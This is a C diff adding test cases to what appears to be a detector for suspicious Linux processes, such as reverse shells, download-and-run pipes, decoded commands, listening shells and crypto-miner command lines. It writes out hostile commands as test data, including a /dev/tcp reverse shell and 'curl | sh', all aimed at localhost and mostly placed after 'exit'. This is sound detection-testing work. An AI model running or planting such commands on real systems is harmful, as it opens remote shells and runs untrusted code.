@@ -177,6 +177,7 @@ void specimen_serve(struct stage *stage, int report)
 static void enter_obfuscated(struct stage *stage)
 {
     stage_expect(stage, "obfuscated_cmdline", "base64 -d");
+    stage_expect(stage, "decode_exec", "base64 -d");
     run_shell("read line; echo ZWNobyBoYXJtbGVzcyBlbm91Z2g= | base64 -d | sh");
 }
 
@@ -296,6 +297,48 @@ static void enter_socket_shell(struct stage *stage)
     specimen_fail("/bin/sh");
 }
 
+static void enter_holding_shell(struct stage *stage)
+{
+    connect_to(stage->port, 0);
+    close(stage->listener);
+    stage_expect(stage, "shell_conn", "127.0.0.1:%u", stage->port);
+    run_shell("read line; echo $line");
+}
+
+static void enter_listening_shell(struct stage *stage)
+{
+    uint16_t port;
+    int listener = listen_on(0, &port);
+
+    if (listener < 0 || fcntl(listener, F_SETFD, 0) != 0)
+        specimen_skip("no port to listen on");
+    stage_expect(stage, "listen_shell", "127.0.0.1:%u", port);
+    run_shell("read line; echo $line");
+}
+
+static void enter_wiring(struct stage *stage)
+{
+    stage_expect(stage, "revshell_cmdline", "/dev/tcp/");
+    run_shell("read line; exit; sh -i >& /dev/tcp/127.0.0.1/9 0>&1");
+}
+
+static void enter_fetching(struct stage *stage)
+{
+    stage_expect(stage, "pipe_exec", "curl into a shell");
+    run_shell("read line; exit; curl -s http://127.0.0.1:9/ | sh");
+}
+
+static void enter_mining(struct stage *stage)
+{
+    char self[PATH_MAX] = "";
+
+    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0)
+        specimen_fail("/proc/self/exe");
+    stage_expect(stage, "miner_cmdline", "stratum+tcp://");
+    execl(self, self, "wait", "stratum+tcp://127.0.0.1:9", (char *)NULL);
+    specimen_fail(self);
+}
+
 static void prepare_crowd(struct stage *stage)
 {
     stage->listener = listen_on(0, &stage->port);
@@ -312,23 +355,28 @@ static void enter_crowd(struct stage *stage)
 }
 
 const struct specimen specimens[] = {
-    {"plain",       "nothing: must stay clean",               NULL,             enter_nothing,      NULL          },
-    {"deleted",     "its executable was deleted",             prepare_deleted,  enter_copy,         finish_deleted},
-    {"memfd",       "runs from memory",                       NULL,             enter_memfd,        NULL          },
-    {"shm",         "runs from /dev/shm",                     prepare_shm,      enter_copy,         NULL          },
-    {"writable",    "anybody can write its executable",       prepare_writable, enter_copy,         NULL          },
-    {"wx",          "memory that is writable and executable", NULL,             enter_wx,           NULL          },
-    {"preload",     "LD_PRELOAD is set",                      NULL,             enter_preload,      NULL          },
-    {"traced",      "its parent traces it",                   NULL,             enter_nothing,      finish_traced },
-    {"nginx",       "a shell under nginx",                    prepare_nginx,    enter_nginx,        NULL          },
-    {"obfuscated",  "decodes and runs its command line",      NULL,             enter_obfuscated,   NULL          },
-    {"evaluating",  "evaluates code",                         NULL,             enter_evaluating,   NULL          },
-    {"renamed",     "says it is another program",             NULL,             enter_renamed,      NULL          },
-    {"wiped",       "wiped its command line",                 NULL,             enter_wiped,        NULL          },
-    {"short",       "a name of one letter",                   prepare_short,    enter_short,        NULL          },
-    {"busy",        "uses a whole CPU",                       NULL,             enter_busy,         NULL          },
+    {"plain",       "nothing: must stay clean",               NULL,             enter_nothing,         NULL          },
+    {"deleted",     "its executable was deleted",             prepare_deleted,  enter_copy,            finish_deleted},
+    {"memfd",       "runs from memory",                       NULL,             enter_memfd,           NULL          },
+    {"shm",         "runs from /dev/shm",                     prepare_shm,      enter_copy,            NULL          },
+    {"writable",    "anybody can write its executable",       prepare_writable, enter_copy,            NULL          },
+    {"wx",          "memory that is writable and executable", NULL,             enter_wx,              NULL          },
+    {"preload",     "LD_PRELOAD is set",                      NULL,             enter_preload,         NULL          },
+    {"traced",      "its parent traces it",                   NULL,             enter_nothing,         finish_traced },
+    {"nginx",       "a shell under nginx",                    prepare_nginx,    enter_nginx,           NULL          },
+    {"obfuscated",  "decodes and runs its command line",      NULL,             enter_obfuscated,      NULL          },
+    {"evaluating",  "evaluates code",                         NULL,             enter_evaluating,      NULL          },
+    {"renamed",     "says it is another program",             NULL,             enter_renamed,         NULL          },
+    {"wiped",       "wiped its command line",                 NULL,             enter_wiped,           NULL          },
+    {"short",       "a name of one letter",                   prepare_short,    enter_short,           NULL          },
+    {"busy",        "uses a whole CPU",                       NULL,             enter_busy,            NULL          },
     {"shell",       "a shell on a socket to a watched port",  prepare_watched,  enter_socket_shell,
-     NULL                                                                                                         },
-    {"connections", "many outbound connections",              prepare_crowd,    enter_crowd,        NULL          },
+     NULL                                                                                                            },
+    {"holding",     "a shell with a connection",              prepare_crowd,    enter_holding_shell,   NULL          },
+    {"listening",   "a shell that listens",                   NULL,             enter_listening_shell, NULL          },
+    {"wiring",      "wires a shell to the network",           NULL,             enter_wiring,          NULL          },
+    {"fetching",    "runs what it downloads",                 NULL,             enter_fetching,        NULL          },
+    {"mining",      "a miner's command line",                 NULL,             enter_mining,          NULL          },
+    {"connections", "many outbound connections",              prepare_crowd,    enter_crowd,           NULL          },
 };
 const size_t specimen_count = sizeof specimens / sizeof specimens[0];
